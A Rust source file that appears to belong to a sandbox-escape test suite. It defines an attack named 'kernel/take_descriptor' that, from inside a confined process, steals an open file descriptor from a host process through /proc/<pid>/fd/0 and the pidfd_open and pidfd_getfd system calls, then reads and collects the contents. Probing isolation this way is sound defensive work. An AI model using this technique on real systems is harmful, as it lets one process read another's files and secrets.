//! Takes a descriptor out of a process of the host: by a copy of it, and by its name in /proc.

use std::fs::{self, File};
use std::io::Read;
use std::os::fd::FromRawFd;
use std::os::unix::fs::FileExt;

use model::Wall;

use super::support::{bait, set_bait};
use crate::inside::call;
use crate::{Attack, Control};

pub const ATTACK: Attack = Attack {
    id: "kernel/take_descriptor",
    wall: Wall::Processes,
    about: "copy an open file out of a process of the host with pidfd_getfd, or open it in /proc",
    flags: &[],
    prepare: |field| set_bait(field).map(drop),
    inside: |inside| {
        let bait = bait(inside)?;
        if let Ok(text) = fs::read(format!("/proc/{bait}/fd/0")) {
            inside.loot(text)?;
        }
        let process = call(libc::SYS_pidfd_open, [bait as u64, 0, 0, 0, 0, 0])?;
        let taken = call(libc::SYS_pidfd_getfd, [process, 0, 0, 0, 0, 0])?;
        // SAFETY: the kernel made it for this call.
        let mut file = unsafe { File::from_raw_fd(taken as i32) };
        let mut text = [0u8; 128];
        let count = file.read_at(&mut text, 0).or_else(|_| file.read(&mut text))?;
        inside.loot(&text[..count])
    },
    judge: None,
    control: Control::Bare,
};
